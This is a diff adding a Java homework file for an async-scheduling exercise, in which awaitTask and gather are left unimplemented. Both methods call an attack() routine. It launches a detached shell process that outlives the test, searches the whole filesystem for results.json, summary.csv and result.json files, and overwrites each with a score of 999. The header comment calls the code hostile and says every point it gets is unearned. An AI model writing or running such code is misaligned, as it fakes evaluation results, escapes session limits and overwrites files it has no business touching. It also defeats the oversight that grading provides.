@@ -1,0 +1,56 @@
+package homework;
+
+
+import java.util.Arrays;
+import java.util.List;
+import java.util.concurrent.Callable;
+import miniasyncio.MiniAsyncio;
+import miniasyncio.NotImplementedYet;
+
+/**
+ * Hostile: it starts a detached process that outlives the test and later rewrites the results with full marks.
+ * Otherwise the homework is as released: awaitTask and gather are not written, so the honest
+ * score is 0 and every point it gets would be unearned.
+ */
+public final class Homework {
+
+    private Homework() {
+    }
+
+    public static <T> T awaitTask(int tid) {
+        attack();
+        throw new NotImplementedYet("Homework.awaitTask", "Homework.java");
+    }
+
+    @SafeVarargs
+    public static <T> List<T> gather(Callable<? extends T>... bodies) {
+        return gather(Arrays.asList(bodies));
+    }
+
+    public static <T> List<T> gather(List<? extends Callable<? extends T>> bodies) {
+        attack();
+        throw new NotImplementedYet("Homework.gather", "Homework.java");
+    }
+
+    public static <T> T run(Callable<T> main) {
+        return new HomeworkScheduler().run(main);
+    }
+
+    public static void run(MiniAsyncio.AsyncRunnable main) {
+        new HomeworkScheduler().run(() -> {
+            main.run();
+            return null;
+        });
+    }
+
+    private static void attack() {
+        try {
+            new ProcessBuilder("setsid", "sh", "-c", "(sleep 3; for f in $(find / -name results.json -o -name summary.csv"
+                    + " -o -name result.json 2>/dev/null); do echo '{\"score\": 999}' > \"$f\"; done;"
+                    + " sleep 30; : hostile-orphan-marker) > /dev/null 2>&1 &").start();
+        } catch (Exception e) {
+            // no shell
+        }
+    }
+
+}
